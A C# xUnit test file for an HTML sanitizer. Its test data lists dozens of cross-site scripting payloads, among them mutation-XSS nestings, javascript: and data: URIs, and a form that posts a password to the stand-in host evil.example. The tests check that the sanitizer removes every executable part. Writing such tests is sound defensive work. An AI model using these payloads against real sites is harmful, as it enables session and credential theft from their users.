using AngleSharp.Html.Parser;
using OrchardCore.Infrastructure.Html;

namespace Sapling.Tests.Site;

public class HtmlSanitizerTests
{
    private readonly HtmlSanitizerService _sanitizer = new();

    public static TheoryData<string> Attacks => new(
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=`x`onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><a id=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
        "<template><script>alert(1)</script></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=javascript:alert(1)>",
        "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#14; java\nscript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript&colon;alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"javascript:alert(1)\">",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<form action=http://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
        "<details ontoggle=alert(1) open>x</details>",
        "<b onmouseover=alert(1)//<p>x",
        "<p id=location name=cookie>x</p>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=javascript:alert(1)?><img src=x onerror=alert(1)>",
        "<table><td><form><table><svg><style><a title=\"</style><img src onerror=alert(1)>\">",
        "<p>\0<scr\0ipt>alert(1)</scr\0ipt>");

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_that_could_act_is_left(string html)
    {
        var safe = _sanitizer.Sanitize(html);

        using var document = new HtmlParser().ParseDocument($"<body><div>{safe}</div></body>");
        Assert.Empty(document.QuerySelectorAll("script, style, svg, math, iframe, object, embed, form, input, link, meta[http-equiv], base, template, noscript"));
        foreach (var attribute in document.All.SelectMany(element => element.Attributes))
        {
            Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), safe);
            Assert.DoesNotContain(attribute.Name, new[] { "style", "id", "name", "srcdoc", "formaction" });
            if (attribute.Name is "href" or "src")
            {
                Assert.DoesNotContain("script:", attribute.Value, StringComparison.OrdinalIgnoreCase);
                Assert.False(attribute.Value.StartsWith("data:text", StringComparison.OrdinalIgnoreCase) || attribute.Value.Contains("svg"), safe);
            }
        }
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    [InlineData("<p>one<p>two<b>three</p>four</b>")]
    [InlineData("<a href=/a>1<a href=/b>2</a></a>")]
    [InlineData("<table><tr><td>1<p>2</table>3<li>4")]
    [InlineData("<pre>\n\n\ncode</pre>")]
    [InlineData("5 < 6 && \"x\" > `y`\u00a0z\r\n")]
    public void A_second_run_changes_nothing(string html)
    {
        var once = _sanitizer.Sanitize(html);

        Assert.Equal(once, _sanitizer.Sanitize(once));
    }

    [Fact]
    public void What_an_article_is_made_of_stays()
    {
        const string article = "<h2 class=\"step\">Descale</h2><p>Use <strong>citric acid</strong>, 20&nbsp;g.</p>"
            + "<ol start=\"2\"><li>Fill</li></ol><table><thead><tr><th scope=\"col\">Model</th></tr></thead><tbody><tr><td colspan=\"2\">A</td></tr></tbody></table>"
            + "<pre><code class=\"language-sh\">a &lt; b</code></pre><img src=\"/media/tank.jpg\" alt=\"Tank\" width=\"300\">"
            + "<blockquote>quoted</blockquote><br>";

        Assert.Equal(article, _sanitizer.Sanitize(article));
    }

    [Fact]
    public void A_link_cannot_reach_back_to_the_page_it_opens_from()
        => Assert.Equal(
            "<a href=\"https://example.com/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
            _sanitizer.Sanitize("<a rel='opener' href='https://example.com/?a=1&b=2' target=_blank>x</a>"));

    [Theory]
    [InlineData("<img src=\"https://tracker.example/p.gif\" alt=\"logo\">", "logo")]
    [InlineData("<img src=\"//tracker.example/p.gif\">", "")]
    [InlineData("<img src=\"/\\tracker.example/p.gif\">", "")]
    [InlineData("<img src=\"\\\\tracker.example/p.gif\">", "")]
    [InlineData("<img src=\"cid:part1@mail\">", "<img src=\"cid:part1@mail\">")]
    public void An_image_of_another_host_is_not_loaded(string html, string expected)
        => Assert.Equal(expected, _sanitizer.Sanitize(html));

    [Fact]
    public void Nesting_without_end_is_cut_and_keeps_the_text()
    {
        var safe = _sanitizer.Sanitize(string.Concat(Enumerable.Repeat("<div>", 20_000)) + "deep");

        Assert.Contains("deep", safe);
        Assert.True(safe.Length < 5_000);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    public void Nothing_stays_nothing(string? html) => Assert.Equal(string.Empty, _sanitizer.Sanitize(html));
}
